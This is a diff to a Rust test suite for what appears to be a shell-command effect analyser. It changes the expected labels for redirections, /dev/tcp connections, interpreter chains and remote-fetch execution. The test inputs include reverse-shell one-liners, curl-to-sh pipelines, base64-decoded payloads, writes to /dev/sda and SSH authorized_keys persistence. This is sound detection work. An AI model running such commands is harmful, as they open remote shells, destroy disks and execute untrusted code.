@@ -36,8 +36,11 @@ fn a_redirection_reads_or_writes() {
         ("while c; do a; done > f", &["write /w/f"]),
         ("if c; then a > f; fi", &["may write /w/f"]),
         ("for i in a b; do c > $i; done", &["write /w/a", "write /w/b"]),
-        ("a > /dev/sda", &["device.write /dev/sda", "write /dev/sda"]),
-        ("a > ~/.ssh/authorized_keys", &["persist.key /home/u/.ssh/authorized_keys", "write /home/u/.ssh/authorized_keys"]),
+        ("a > /dev/sda", &["device.format /dev/sda", "write /dev/sda"]),
+        (
+            "a > ~/.ssh/authorized_keys",
+            &["persist.key /home/u/.ssh/authorized_keys", "write /home/u/.ssh/authorized_keys"],
+        ),
         ("a | tee f", &["write /w/f"]),
         ("cd /x; a > f", &["write /x/f"]),
         ("f() { a; } > f; f", &["write /w/f"]),
@@ -50,9 +53,18 @@ fn a_connection_of_the_shell_is_one_to_a_host() {
         ("a > /dev/tcp/e.com/80", &["net.send e.com:80"]),
         ("a < /dev/tcp/e.com/80", &["net.receive e.com:80"]),
         ("exec 3<>/dev/tcp/e.com/80", &["net.connect e.com:80"]),
-        ("sh -i >& /dev/tcp/1.2.3.4/80 0>&1", &["net.shell 1.2.3.4:80", "opaque exec+remote"]),
-        ("bash -i > /dev/tcp/e.com/80 2>&1 <&1", &["net.shell e.com:80", "opaque exec+remote"]),
-        ("exec 5<>/dev/tcp/e.com/80; sh <&5 >&5", &["net.connect e.com:80", "net.shell e.com:80", "opaque exec+remote"]),
+        (
+            "sh -i >& /dev/tcp/1.2.3.4/80 0>&1",
+            &["net.shell 1.2.3.4:80", "exec+remote", "opaque exec+remote"],
+        ),
+        (
+            "bash -i > /dev/tcp/e.com/80 2>&1 <&1",
+            &["net.shell e.com:80", "exec+remote", "opaque exec+remote"],
+        ),
+        (
+            "exec 5<>/dev/tcp/e.com/80; sh <&5 >&5",
+            &["net.connect e.com:80", "net.shell e.com:80", "exec+remote", "opaque exec+remote"],
+        ),
         ("a > /dev/udp/e.com/53", &["net.send e.com:53"]),
         ("h=e.com; a > /dev/tcp/$h/80", &["net.send e.com:80"]),
         ("a > /dev/tcp/$H/80", &["net.send *:80"]),
@@ -79,37 +91,78 @@ fn an_interpreter_runs_what_it_is_given() {
         ("echo rm a > f; sh f", &["[echo rm a]", "[sh f]", "[rm a]"]),
         ("echo rm a > f; chmod +x f; ./f", &["[echo rm a]", "[chmod +x f]", "[f]", "[rm a]"]),
         ("echo rm a > f; . ./f", &["[echo rm a]", "[rm a]"]),
-        ("echo rm a >> f; sh f", &["[echo rm a]", "[sh f]", "opaque [_ a]"]),
-        ("echo rm a > f; echo rm b >> f; sh f", &["[echo rm a]", "[echo rm b]", "[sh f]", "[rm a]", "[rm b]"]),
+        ("echo rm a >> f; sh f", &["[echo rm a]", "[sh f]", "opaque [_ a]", "may [rm a]"]),
+        (
+            "echo rm a > f; echo rm b >> f; sh f",
+            &["[echo rm a]", "[echo rm b]", "[sh f]", "[rm a]", "[rm b]"],
+        ),
         ("cat > f <<E\nrm a\nE\nbash f", &["[cat]", "[bash f]", "[rm a]"]),
         ("echo rm a | tee f; sh f", &["[echo rm a]", "[tee f]", "[sh f]", "[rm a]"]),
         ("echo rm a > f; cp f g; sh g", &["[echo rm a]", "[cp f g]", "[sh g]", "[rm a]"]),
         ("echo rm a > f; sh < f", &["[echo rm a]", "[sh]", "[rm a]"]),
         ("echo rm a > f; cat f | sh", &["[echo rm a]", "[cat f]", "[sh]", "[rm a]"]),
-        ("{ echo rm a; echo rm b; } | sh", &["[echo rm a]", "[echo rm b]", "[sh]", "[rm a]", "[rm b]"]),
+        (
+            "{ echo rm a; echo rm b; } | sh",
+            &["[echo rm a]", "[echo rm b]", "[sh]", "[rm a]", "[rm b]"],
+        ),
         ("echo rm a | cat | sh", &["[echo rm a]", "[cat]", "[sh]", "[rm a]"]),
-        ("echo cm0gYQ== | base64 -d | sh", &["[echo cm0gYQ==]", "[base64 -d]", "[sh]", "+decoded [rm a]"]),
+        (
+            "echo cm0gYQ== | base64 -d | sh",
+            &["[echo cm0gYQ==]", "[base64 -d]", "[sh]", "+decoded [rm a]"],
+        ),
         ("echo a | xargs rm", &["[echo a]", "[xargs rm]", "[rm a]"]),
         ("echo a b | xargs -I{} rm {}", &["[echo a b]", "[xargs -I{} rm {}]", "[rm a b]"]),
         ("xargs rm <<< 'a b'", &["[xargs rm]", "[rm a b]"]),
         ("ls | xargs rm", &["[ls]", "[xargs rm]", "[rm _]"]),
         ("echo 'rm a' | while read x; do $x; done", &["[echo rm a]", "may [rm a]"]),
-        ("echo 'rm a' | xargs -I{} sh -c {}", &["[echo rm a]", "[xargs -I{} sh -c {}]", "[sh -c rm a]", "[rm a]"]),
+        (
+            "echo 'rm a' | xargs -I{} sh -c {}",
+            &["[echo rm a]", "[xargs -I{} sh -c {}]", "[sh -c rm a]", "[rm a]"],
+        ),
     ]);
 }
 
 #[test]
 fn what_came_from_elsewhere_is_marked_where_it_runs() {
     check(&[
-        ("curl http://e.com | sh", &["net.receive e.com:80", "exec+remote", "opaque exec+remote"]),
-        ("sh -c \"$(curl http://e.com)\"", &["net.receive e.com:80", "opaque exec+remote"]),
-        ("sh <(curl http://e.com)", &["net.receive e.com:80", "exec+remote /dev/fd/63", "opaque exec+remote"]),
-        ("curl http://e.com > f; sh f", &["net.receive e.com:80", "write /w/f", "exec /w/f", "exec+remote /w/f", "opaque exec+remote"]),
-        ("curl -o f http://e.com; sh f", &["net.receive e.com:80", "write /w/f", "exec /w/f", "exec+remote /w/f", "opaque exec+remote"]),
+        ("curl http://e.com | sh", &["net.receive e.com", "exec+remote", "opaque exec+remote"]),
+        ("sh -c \"$(curl http://e.com)\"", &["net.receive e.com", "opaque exec+remote"]),
+        (
+            "sh <(curl http://e.com)",
+            &[
+                "net.receive e.com",
+                "exec /dev/fd/63",
+                "exec+remote /dev/fd/63",
+                "opaque exec+remote",
+            ],
+        ),
+        (
+            "curl http://e.com > f; sh f",
+            &[
+                "write /w/f",
+                "net.receive e.com",
+                "exec /w/f",
+                "exec+remote /w/f",
+                "opaque exec+remote",
+            ],
+        ),
+        (
+            "curl -o f http://e.com; sh f",
+            &[
+                "write /w/f",
+                "net.receive e.com",
+                "exec /w/f",
+                "exec+remote /w/f",
+                "opaque exec+remote",
+            ],
+        ),
         ("echo $X | base64 -d | sh", &["exec+decoded", "opaque exec+decoded"]),
         ("eval \"$(echo cm0gYQ== | base64 -d)\"", &["exec+decoded", "delete+decoded /w/a"]),
-        ("x=$(curl http://e.com); eval \"$x\"", &["net.receive e.com:80", "opaque exec+remote"]),
-        ("curl http://e.com | python3", &["net.receive e.com:80", "exec+remote", "opaque exec+remote"]),
+        ("x=$(curl http://e.com); eval \"$x\"", &["net.receive e.com", "opaque exec+remote"]),
+        (
+            "curl http://e.com | python3",
+            &["net.receive e.com", "exec+remote", "opaque exec+remote"],
+        ),
     ]);
 }
 
